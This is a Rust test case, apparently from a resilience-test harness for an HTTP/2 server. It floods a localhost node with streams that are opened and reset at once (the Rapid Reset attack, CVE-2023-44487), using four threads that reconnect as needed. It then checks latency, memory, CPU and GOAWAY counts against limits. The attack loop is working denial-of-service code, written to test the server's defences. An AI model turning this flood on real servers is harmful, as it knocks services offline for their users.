//! Streams of HTTP/2 that are opened and reset at once (CVE-2023-44487).

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use anyhow::{Result, anyhow};

use super::super::case::Case;
use super::super::figure::{Bound, Figure};
use super::super::http2::{Http2, RESET, frame, get};
use super::super::scene::{Ground, Scene};
use crate::admin;

pub(super) const CASE: Case = Case {
    name: "rapid-reset",
    title: "streams of HTTP/2 that are opened and reset at once, 100,000 (quick: 20,000) and then as many as four clients can \
            send, each over a new connection whenever the node has ended one",
    settings: &[],
    link: None,
    tls: false,
    run,
};

const THREADS: u32 = 4;
/// Streams that are sent at once.
const BATCH: u32 = 50;
/// The error code of a stream that is not wanted any more: CANCEL.
const CANCEL: u32 = 8;
/// How long the first ones may take.
const LONGEST: Duration = Duration::from_secs(60);

/// When attackers end.
#[derive(Clone, Copy, Debug)]
struct Span {
    /// Not before.
    until: Instant,
    /// Not later, even if there were too few streams.
    longest: Instant,
}

/// What the attackers did.
#[derive(Clone, Copy, Debug, Default)]
struct Done {
    streams: u32,
    connections: u32,
}

fn run(scene: &mut Scene) -> Result<Vec<Figure>> {
    let ground = scene.ground.clone();
    let total = ground.size.pick(100_000, 20_000);
    let calm = scene.undisturbed()?;
    let node = [ground.admin];
    let seen = || admin::sum(&node, "fanfare_http2_streams_total").map(Option::unwrap_or_default);
    let told = || admin::labelled(&node, "fanfare_http2_goaways_total", "enhance_your_calm");
    let (seen_before, told_before) = (seen()?, told()?);
    let (attacked, (done, seconds)) = scene.attacked(|| {
        let begun = Instant::now();
        let span = Span { until: begun + ground.size.span(), longest: begun + LONGEST };
        let done = std::thread::scope(|scope| {
            let threads: Vec<_> =
                (0..THREADS).map(|_| scope.spawn(|| attack(&ground, total / THREADS, span))).collect();
            threads.into_iter().try_fold(Done::default(), |all, thread| {
                let done = thread.join().map_err(|_| anyhow!("an attacker panicked"))?;
                Ok::<_, anyhow::Error>(Done {
                    streams: all.streams + done.streams,
                    connections: all.connections + done.connections,
                })
            })
        })?;
        Ok((done, begun.elapsed().as_secs_f64()))
    })?;
    let streams = f64::from(done.streams);
    Ok(vec![
        Figure::bound("p99 of others", attacked.latency_ms(0.99), "ms", Bound::Most(50.0))
            .beside(calm.latency_ms(0.99)),
        Figure::bound("growth of memory", attacked.growth_mb(), "MB", Bound::Most(16.0)),
        Figure::bound("requests looked at / streams", (seen()? - seen_before) / streams, "", Bound::Most(0.5)),
        Figure::shown("CPU of the node", attacked.node_cpu_percent(), "%").beside(calm.node_cpu_percent()),
        Figure::shown("streams", streams, ""),
        Figure::shown("streams a second", streams / seconds, ""),
        Figure::shown("connections", f64::from(done.connections), ""),
        Figure::shown("told ENHANCE_YOUR_CALM", told()? - told_before, ""),
    ])
}

/// Opens and resets streams, over one connection after the other.
fn attack(ground: &Ground, streams: u32, span: Span) -> Done {
    let mut done = Done::default();
    let goes_on = |done: &Done| {
        let now = Instant::now();
        now < span.until || (done.streams < streams && now < span.longest)
    };
    while goes_on(&done) && ground.stage.check().is_ok() {
        let Ok(mut connection) = Http2::connect(ground.node, Ipv4Addr::LOCALHOST, &[]) else { continue };
        done.connections += 1;
        let mut next = 1;
        while goes_on(&done) {
            let batch: Vec<u8> = (0..BATCH).flat_map(|number| pair(next + 2 * number)).collect();
            if !connection.send(&batch) {
                break;
            }
            next += 2 * BATCH;
            done.streams += BATCH;
        }
    }
    done
}

/// A request, and that it is not wanted.
fn pair(stream: u32) -> Vec<u8> {
    [get(stream, "/events?channel=fanload-reset"), frame(RESET, 0, stream, &CANCEL.to_be_bytes())].concat()
}
